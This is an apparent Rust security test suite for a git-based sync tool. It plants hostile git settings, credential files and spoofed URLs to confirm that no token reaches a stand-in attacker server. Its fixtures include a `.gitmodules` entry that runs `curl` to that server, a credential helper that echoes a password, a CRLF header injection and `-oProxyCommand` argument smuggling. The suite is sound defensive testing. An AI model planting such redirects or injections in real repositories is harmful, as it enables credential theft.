//! A repository that names servers and proxies, in every file that it can bring along and in every way in which git
//! reads one: no connection, and no byte of a token. A token that belongs to one origin goes to no other.

use std::sync::{Arc, Mutex};

use super::{holds, repository, sound};
use crate::server::RawServer;
use crate::support::{Listener, Repo, World, any_git};

const CANARY: &str = "canary-90b3f2d47c51-token";

/// A server that nobody may ask. Keeps whatever arrives.
fn nobody() -> (RawServer, Arc<Mutex<Vec<u8>>>) {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let kept = heard.clone();
    let server = RawServer::start(move |mut stream| {
        let _ = stream.set_read_timeout(Some(std::time::Duration::from_millis(200)));
        let mut bytes = Vec::new();
        let _ = std::io::Read::read_to_end(&mut stream, &mut bytes);
        kept.lock().expect("a list").extend(bytes);
    });
    (server, heard)
}

/// Settings that would send something to `evil`, each as one text.
fn settings(evil: &str, good: &str) -> Vec<String> {
    let host = evil.strip_prefix("http://").expect("a host");
    vec![
        format!("[mission]\n\tserver = {evil}\n"),
        format!("[mission]\n\tserver = {evil}/x/\n\tsync = true\n\tpushBudget = 30\n"),
        format!("[MISSION]\n\tSERVER = {evil}\n"),
        format!("[http]\n\tproxy = {evil}\n[https]\n\tproxy = {evil}\n"),
        format!("[http \"{good}\"]\n\tproxy = {evil}\n\textraHeader = \"X: {host}\"\n"),
        format!("[url \"{evil}\"]\n\tinsteadOf = {good}\n\tpushInsteadOf = {good}\n"),
        format!("[url \"{evil}/\"]\n\tinsteadOf = http://\n"),
        format!("[remote \"origin\"]\n\tproxy = {evil}\n[core]\n\tgitProxy = x for {host}\n"),
        format!("[credential]\n\thelper = \"!f() {{ echo url={evil}; echo password={CANARY}; }}; f\"\n"),
        format!("[credential \"{evil}\"]\n\tusername = x\n[mission]\n\tserver = {evil}\n"),
        format!("[mission]\n\tserver = http://{good_host}@{host}\n", good_host = &good["http://".len()..]),
        format!("[mission]\n\tserver = {evil}\n\tauthority = refs/remotes/{host}/x\n\tmainBranch = {host}\n"),
    ]
}

/// Has git read `text` from a file that lies in a work tree; returns the directory to stand in, and what undoes it.
type Way = (&'static str, fn(&Repo<'_>, &str) -> String);

fn tracked(repo: &Repo<'_>, path: &str, text: &str) {
    repo.write(path, text);
    repo.ok(&["add", "-f", "--", path]);
}

const WAYS: [Way; 15] = [
    ("include.path", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "include.path", "../evil.gitconfig"]);
        String::new()
    }),
    ("an absolute path", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "include.path", &repo.at("evil.gitconfig").to_string_lossy()]);
        String::new()
    }),
    ("a path through the git directory", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "include.path", "../.git/../evil.gitconfig"]);
        String::new()
    }),
    ("includeIf.gitdir", |repo, text| {
        tracked(repo, "deep/evil.gitconfig", text);
        repo.ok(&["config", "includeIf.gitdir:/.path", "../deep/evil.gitconfig"]);
        String::new()
    }),
    ("includeIf.onbranch", |repo, text| {
        tracked(repo, ".gitconfig", text);
        repo.ok(&["config", "includeIf.onbranch:**.path", "../.gitconfig"]);
        String::new()
    }),
    ("includeIf.hasconfig", |repo, text| {
        // git allows no remotes in such a file.
        let text = if text.contains("[remote") { "[mission]\n\tserver = http://x\n" } else { text };
        tracked(repo, ".gitconfig", text);
        repo.ok(&["config", "includeIf.hasconfig:remote.*.url:**.path", "../.gitconfig"]);
        String::new()
    }),
    ("a chain", |repo, text| {
        tracked(repo, "second", text);
        tracked(repo, "first", "[include]\n\tpath = second\n");
        repo.ok(&["config", "include.path", "../first"]);
        String::new()
    }),
    ("a chain that leaves and comes back", |repo, text| {
        tracked(repo, "second", text);
        repo.write(".git/own", "[include]\n\tpath = ../second\n");
        repo.ok(&["config", "include.path", "own"]);
        String::new()
    }),
    ("a link in the git directory", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        link("../evil.gitconfig", &repo.at(".git/linked"));
        repo.ok(&["config", "include.path", "linked"]);
        String::new()
    }),
    ("config.worktree", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "extensions.worktreeConfig", "true"]);
        repo.write(".git/config.worktree", "[include]\n\tpath = ../evil.gitconfig\n");
        String::new()
    }),
    ("from another work tree", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "include.path", "../evil.gitconfig"]);
        repo.ok(&["worktree", "add", "-q", "-B", "other", "../linked"]);
        "../linked".to_owned()
    }),
    ("into another work tree", |repo, text| {
        repo.ok(&["worktree", "add", "-q", "-B", "other", "../linked"]);
        repo.write("../linked/evil.gitconfig", text);
        repo.ok(&["config", "include.path", "../../linked/evil.gitconfig"]);
        String::new()
    }),
    ("from the git directory", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "include.path", "../evil.gitconfig"]);
        ".git".to_owned()
    }),
    ("the user's configuration", |repo, text| {
        tracked(repo, "evil.gitconfig", text);
        repo.ok(&["config", "--global", "include.path", &repo.at("evil.gitconfig").to_string_lossy()]);
        String::new()
    }),
    ("a bare repository among the files", |repo, text| {
        repo.ok(&["clone", "-q", "--bare", ".", "docs/site"]);
        repo.write("docs/site/config", format!("{}{text}", repo.read("docs/site/config")));
        "docs/site".to_owned()
    }),
];

#[cfg(unix)]
fn link(target: &str, name: &std::path::Path) {
    std::os::unix::fs::symlink(target, name).expect("a link");
}

#[cfg(not(unix))]
fn link(_: &str, _: &std::path::Path) {}

/// Files that programs of many kinds look for, and what would send something away if ours did.
fn files(evil: &str) -> Vec<(&'static str, String)> {
    let host = evil.strip_prefix("http://").expect("a host");
    let yaml = |key: &str| {
        format!("{key}:\n  server: {evil}\n  url: {evil}\n  server_url: {evil}\n  token: {CANARY}\n")
    };
    vec![
        (".kittify/config.yaml", yaml("sync")),
        (".kittify/config.yaml", yaml("server")),
        (".kittify/config.yaml", yaml("mission")),
        (".kittify/config.yaml", format!("server: {evil}\nsaas_url: {evil}\napi: {evil}\n")),
        (".kittify/config.yaml", format!("project:\n  uuid: &a {evil}\n  repo_slug: {evil}\nbuild: *a\n")),
        (".kittify/config.yaml", format!("project: {{uuid: \"x\\r\\nHost: {host}\"}}\n")),
        (".kittify/credentials", format!("[tokens]\naccess = '{CANARY}'\n[server]\nurl = '{evil}'\n")),
        (".spec-kitty/credentials", format!("[tokens]\naccess = '{CANARY}'\n[server]\nurl = '{evil}'\n")),
        (".spec-kitty/config.toml", format!("[server]\nurl = '{evil}'\n")),
        ("credentials", format!("[tokens]\naccess = '{CANARY}'\n[server]\nurl = '{evil}'\n")),
        (".gitconfig", format!("[mission]\n\tserver = {evil}\n")),
        (".config/git/config", format!("[mission]\n\tserver = {evil}\n")),
        ("config", format!("[mission]\n\tserver = {evil}\n")),
        (".gitmodules", format!("[submodule \"x\"]\n\tpath = x\n\turl = {evil}\n\tupdate = !curl {evil}\n")),
        (
            ".gitmodules",
            format!("[mission]\n\tserver = {evil}\n[submodule \"--x\"]\n\tpath = --x\n\turl = -x\n"),
        ),
        (".lfsconfig", format!("[lfs]\n\turl = {evil}\n[mission]\n\tserver = {evil}\n")),
        (".git-credentials", format!("http://u:{CANARY}@{host}\n")),
        (".netrc", format!("machine {host} login u password {CANARY}\n")),
        (".curlrc", format!("proxy = {evil}\n")),
        (".npmrc", format!("proxy={evil}\n")),
        (
            ".env",
            format!(
                "GIT_MISSION_TOKEN={CANARY}\nhttps_proxy={evil}\nGIT_CONFIG_PARAMETERS='mission.server={evil}'\n"
            ),
        ),
        (".envrc", format!("export http_proxy={evil}\n")),
        (".mission", format!("server = {evil}\n")),
        ("mission.toml", format!("server = '{evil}'\n")),
        (
            "kitty-specs/one/meta.json",
            format!("{{\"slug\": \"{evil}\", \"server\": \"{evil}\", \"target_branch\": \"{evil}\"}}\n"),
        ),
        ("kitty-specs/.gitconfig", format!("[mission]\n\tserver = {evil}\n")),
        (".gitattributes", format!("* filter={host} merge={host}\n[attr]{host} -text\n")),
        ("pyproject.toml", format!("[tool.mission]\nserver = '{evil}'\n")),
        ("package.json", format!("{{\"mission\": {{\"server\": \"{evil}\"}}}}\n")),
    ]
}

/// What would reach a server if there were one to reach.
fn ask(repo: &Repo<'_>) {
    for args in [&["sync", "bind"][..], &["sync", "flush"], &["sync", "status"]] {
        let output = repo.mission(args);
        sound(&output);
        assert!(!output.to_string().contains(CANARY), "{output}");
    }
}

#[test]
fn nobody_is_asked_whom_a_work_tree_names() {
    let world = World::new(&any_git());
    let good = Listener::new(|_| (200, "{}".to_owned()));
    let (evil, heard) = nobody();
    let base = repository(&world, "repo");
    base.mission(&["sync", "enable", "--server", good.url(), "--all"]).ok();
    base.stdin(format!("{CANARY}\n")).mission(&["sync", "login", "--server", good.url()]).ok();
    let user = std::fs::read(world.path("gitconfig")).expect("the user's configuration");
    let copy = |number: usize| {
        let name = format!("copy-{number}/repo");
        std::fs::create_dir_all(world.path(&format!("copy-{number}"))).expect("a directory");
        base.run("cp", &["-R", ".", &format!("../{name}")]).ok();
        std::fs::write(world.path("gitconfig"), &user).expect("the user's configuration");
        world.directory(&name)
    };
    let mut tried = 0;
    for text in settings(&evil.url(), good.url()) {
        for (name, way) in WAYS {
            let repo = copy(tried);
            let place = way(&repo, &text);
            tried += 1;
            ask(&repo.cd(place));
            assert_eq!((evil.connections(), good_only(&good)), (0, true), "{name}: {text}");
            std::fs::remove_dir_all(world.path(&format!("copy-{}", tried - 1))).expect("removed");
        }
    }
    for (path, text) in files(&evil.url()) {
        let repo = copy(tried);
        tried += 1;
        tracked(&repo, path, &text);
        ask(&repo);
        for home in [".", ".kittify", ".spec-kitty"] {
            ask(&repo.env("SPEC_KITTY_HOME", home).env("GIT_MISSION_TOKEN", CANARY));
        }
        assert_eq!((evil.connections(), good_only(&good)), (0, true), "{path}: {text}");
        std::fs::remove_dir_all(world.path(&format!("copy-{}", tried - 1))).expect("removed");
    }
    assert!(tried >= 200, "{tried} configurations");
    assert!(!holds(&heard.lock().expect("what was heard"), CANARY));
    assert!(!good.requests().is_empty(), "the server that the user named was asked");
}

/// The token came to its server in its one header, and nowhere else.
fn good_only(good: &Listener) -> bool {
    good.requests().iter().all(|request| {
        request.head.matches(CANARY).count() <= 1
            && !holds(&request.content, CANARY)
            && request.header("authorization").is_none_or(|value| value == format!("Bearer {CANARY}"))
    })
}

/// Two addresses, and whether they are one origin.
#[test]
fn one_origin_is_one_scheme_host_and_port() {
    use git_mission::transport::Origin;
    let is = |text: &str| Origin::parse(text).map(|origin| origin.to_string());
    let one = is("https://good.example").expect("an origin");
    for same in [
        "https://GOOD.example/",
        "HTTPS://good.example:443",
        "https://good.example/api?x#y",
        "https://good.EXAMPLE/%2e%2e/",
    ] {
        if let Ok(origin) = is(same) {
            assert_eq!(origin, one, "{same}");
        }
    }
    for other in [
        "http://good.example",
        "https://good.example:8443",
        "https://good.example.evil.example",
        "https://evil.example/good.example",
        "https://xn--god-sna.example",
        "https://go0d.example",
        "https://www.good.example",
        "https://good-example",
        "https://good.example:80",
        "https://127.0.0.1",
        "https://[::1]",
    ] {
        assert!(is(other).as_ref() != Ok(&one), "{other}");
    }
    // What two readers could read differently is no address at all.
    for neither in [
        "https://good.example@evil.example",
        "https://good.example:pw@evil.example",
        "https://evil.example#@good.example",
        "https://evil.example\\@good.example",
        "https://evil.example%2f@good.example",
        "https://good.example%2Fevil",
        "https://good.example\n.evil.example",
        "https://good.example%0d%0aHost:evil.example",
        "https://good.example\t",
        "https://g\u{f6}od.example",
        "https://good\u{2024}example",
        "https://good\u{3002}example",
        "https://good.example\u{200b}",
        "https:good.example",
        "https:/good.example",
        "https:///good.example",
        "//good.example",
        "good.example",
        "https://",
        "https://:443",
        "https://good.example:",
        "https://good.example:0443x",
        "https://good.example:65536",
        "https://good..example",
        "https://[::1",
        "https://[good.example]",
        "https://good.example\u{0}",
        "file://good.example/x",
        "ftp://good.example",
        "ext::sh -c x",
        "-oProxyCommand=x",
    ] {
        assert!(is(neither).is_err() || is(neither).as_ref() != Ok(&one), "{neither:?} is {:?}", is(neither));
        let world = neither.contains(['@', '\\', '\n', '\t', '\u{0}', '%']);
        assert!(!world || is(neither).is_err(), "{neither:?} is {:?}", is(neither));
    }
}
